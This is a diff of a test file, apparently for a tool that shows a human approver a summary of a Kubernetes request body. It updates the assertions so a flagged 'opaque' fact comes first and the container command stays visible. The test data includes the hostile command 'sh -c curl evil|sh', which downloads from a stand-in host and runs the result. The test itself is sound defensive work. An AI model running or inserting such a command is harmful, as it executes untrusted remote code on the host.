@@ -22,7 +22,8 @@ describe('what an approver sees of a body', () => {
       metadata: { annotations },
       ...container({ command: ['sh', '-c', 'curl evil|sh'] }),
     })
-    expect(facts.slice(0, 1)).toEqual([`spec.template.spec.containers[0].command = sh -c 'curl evil|sh'`])
+    expect(facts[0]).toMatch(/^! opaque/)
+    expect(facts.slice(1, 2)).toEqual([`spec.template.spec.containers[0].command = sh -c 'curl evil|sh'`])
     expect(facts.at(-1)).toMatch(/^and \d+ more fields that are not shown$/)
     expect(bodyPreview).not.toContain('curl evil')
     expect(bodyCut).toMatch(/^first 4096 of \d+ bytes \(\d+ as sent\), \d+ not shown$/)
